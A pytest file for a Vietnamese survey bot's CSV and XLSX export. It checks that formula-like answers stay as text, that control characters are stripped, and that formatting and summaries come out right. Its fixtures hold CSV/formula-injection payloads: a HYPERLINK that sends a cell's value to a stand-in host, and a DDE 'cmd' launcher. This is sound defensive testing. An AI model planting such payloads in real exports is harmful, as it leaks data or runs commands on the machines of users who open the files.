"""Exports of whatever is stored: formula-like text stays text, control characters go.

The rows are written straight through the storage functions, as an older version (which did
not clean inbound text) may have left them; the exports are made by the real CLI in a
subprocess and by the dashboard over real HTTP, and read back with openpyxl and csv.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import tempfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.app import create_app
from bot.config import Settings
from dashboard.passwords import hash_password
from handlers import Services
from storage import console as console_users
from storage import surveys as store
from storage.db import make_engine, session_scope
from tests.conftest import FakeClock
from tests.surveys.conftest import Town
from tests.web.conftest import ServerThread

ROOT = Path(__file__).resolve().parents[2]
PERIOD = "2026-Q4"
NOW = datetime(2026, 11, 30, 2, 0, tzinfo=UTC)
SENT = {
    "dau_moi": "co",
    "so_mang_luoi": 12,
    "so_tap_huan": 5,
    "ty_le_nen_tang": 80.0,
    "to_cong_nghe": 40,
    "giao_ban": "mot",
    "kho_khan": '=HYPERLINK("http://x/?d="&B2,"y")',
    "de_xuat": "+cmd|' /C calc'!A0",
}
# Another unit's report, sent with what an older version may have stored.
OTHER = {
    "ty_le_nen_tang": 62.5,
    "kho_khan": "Dòng một\x0bdòng hai\x1b[31m đỏ\x00",
    "de_xuat": "-1+1",
}
# 1-based columns of the data sheet (seven fixed columns come first).
COLUMN = {"ty_le_nen_tang": 11, "kho_khan": 14, "de_xuat": 15}


async def _answer(
    engine: AsyncEngine, unit_id: int, answers: dict[str, Any], *, send: bool
) -> None:
    async with session_scope(engine) as session:
        response = await store.get_or_create_response(
            session, survey_id="bao-cao-quy", period=PERIOD, unit_id=unit_id, now=NOW
        )
        assert response.id is not None
        version = response.version
        for question_id, value in answers.items():
            saved = await store.save_answer(
                session,
                response_id=response.id,
                expected_version=version,
                question_id=question_id,
                value=value,
                official_id=None,
                identity_id=None,
                now=NOW,
            )
            assert saved
            version += 1
        if send:
            await store.submit(
                session,
                response_id=response.id,
                expected_version=version,
                official_id=None,
                identity_id=None,
                now=NOW,
            )


@pytest.fixture
async def stored(sqlite_engine: AsyncEngine, town: Town) -> None:
    await _answer(sqlite_engine, town.unit_id, SENT, send=True)
    await _answer(sqlite_engine, town.other_unit_id, OTHER, send=True)


def _cdsbot_export(settings: Settings, fmt: str, out: Path) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("DATABASE_", "LOG_"))}
    environ |= {"PYTHONPATH": str(ROOT), "DATABASE_URL": settings.database_url}
    return subprocess.run(
        [sys.executable, "-m", "bot", "export", "--survey", "bao-cao-quy", "--period", PERIOD,
         "--format", fmt, "--out", str(out)],
        capture_output=True, text=True, cwd=out.parent, env=environ, timeout=120, check=False,
    )  # fmt: skip


def _xlsx_rows(path: Path) -> dict[str, Any]:
    sheet = load_workbook(path)["Báo cáo"]
    return {row[0].value: row for row in sheet.iter_rows(min_row=2)}


@pytest.mark.usefixtures("stored")
async def test_xlsx_keeps_formula_like_answers_as_text_when_exported(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "q4.xlsx"

    result = _cdsbot_export(settings, "xlsx", out)

    rows = _xlsx_rows(out)
    sent, other = rows["21025"], rows["21026"]
    texts = [sent[COLUMN["kho_khan"] - 1], sent[COLUMN["de_xuat"] - 1]]
    texts.append(other[COLUMN["de_xuat"] - 1])
    assert result.returncode == 0, result.stderr
    assert [(cell.data_type, cell.value) for cell in texts] == [
        ("s", SENT["kho_khan"]),
        ("s", SENT["de_xuat"]),
        ("s", "-1+1"),
    ]
    assert all(cell.quotePrefix for cell in texts)
    assert (sent[COLUMN["ty_le_nen_tang"] - 1].data_type, sent[8].value) == ("n", 12)


@pytest.mark.usefixtures("stored")
async def test_csv_prefixes_formula_like_answers_with_a_quote_when_exported(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "q4.csv"

    result = _cdsbot_export(settings, "csv", out)

    rows = {row[0]: row for row in csv.reader(io.StringIO(out.read_text("utf-8-sig")))}
    assert result.returncode == 0, result.stderr
    assert rows["21025"][COLUMN["kho_khan"] - 1] == "'" + SENT["kho_khan"]
    assert rows["21025"][COLUMN["de_xuat"] - 1] == "'" + SENT["de_xuat"]
    assert rows["21026"][COLUMN["de_xuat"] - 1] == "'-1+1"


@pytest.mark.usefixtures("stored")
async def test_csv_writes_whole_numbers_without_decimal_point(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "q4.csv"

    _cdsbot_export(settings, "csv", out)

    rows = {row[0]: row for row in csv.reader(io.StringIO(out.read_text("utf-8-sig")))}
    column = COLUMN["ty_le_nen_tang"] - 1
    assert (rows["21025"][column], rows["21026"][column]) == ("80", "62.5")


@pytest.mark.usefixtures("stored")
async def test_cli_export_drops_control_characters_when_a_report_holds_them(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "q4.xlsx"

    result = _cdsbot_export(settings, "xlsx", out)

    assert (result.returncode, result.stderr) == (0, "")
    assert _xlsx_rows(out)["21026"][COLUMN["kho_khan"] - 1].value == "Dòng mộtdòng hai[31m đỏ"
    assert [path.name for path in tmp_path.iterdir() if "q4" in path.name] == ["q4.xlsx"]


@pytest.mark.usefixtures("stored")
async def test_admin_export_succeeds_over_http_when_answers_hold_control_characters(
    settings: Settings,
    services: Services,
    clock: FakeClock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))

    engine = make_engine(settings.database_url)
    async with session_scope(engine) as session:
        await console_users.create_user(
            session,
            name="chanh-vp",
            password_hash=hash_password("mật-khẩu-biên-tập-01"),
            role="editor",
            now=clock(),
        )
    await engine.dispose()

    with ServerThread(create_app(settings, services=services, clock=clock)) as server:
        async with httpx.AsyncClient(base_url=server.url) as client:
            form = await client.get("/admin/login")
            csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
            assert csrf is not None
            await client.post(
                "/admin/login",
                data={"username": "chanh-vp", "password": "mật-khẩu-biên-tập-01", "csrf": csrf[1]},
            )
            xlsx = await client.get("/admin/export", params={"format": "xlsx"})
            text = await client.get("/admin/export", params={"format": "csv"})

    sheet = load_workbook(io.BytesIO(xlsx.content))["Báo cáo"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert (xlsx.status_code, text.status_code) == (200, 200)
    assert rows["21026"][COLUMN["kho_khan"] - 1].value == "Dòng mộtdòng hai[31m đỏ"
    assert "\x0b" not in text.content.decode("utf-8-sig")
    assert list(temp.iterdir()) == []


@pytest.mark.usefixtures("stored")
async def test_xlsx_header_is_wrapped_frozen_and_filtered_with_column_widths(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "q4.xlsx"

    _cdsbot_export(settings, "xlsx", out)

    sheet = load_workbook(out)["Báo cáo"]
    widths = [sheet.column_dimensions[letter].width for letter in ("A", "B", "N")]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("C2", "A1:O5")
    assert all(cell.alignment.wrap_text and cell.font.bold for cell in sheet[1])
    assert widths[0] < widths[1] < widths[2] <= 52


@pytest.mark.usefixtures("stored")
async def test_summary_gives_a_mean_not_a_total_for_a_percent_question(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "q4.xlsx"

    _cdsbot_export(settings, "xlsx", out)

    rows = list(load_workbook(out)["Tổng hợp"].iter_rows(values_only=True))
    numbers = {row[0]: row[1:4] for row in rows if row and row[3] is not None}
    assert numbers["Tỷ lệ sử dụng nền tảng số (%)"] == (None, 71.25, 2)
    assert numbers["Số người tham gia Mạng lưới CĐS"] == (12, 12, 1)
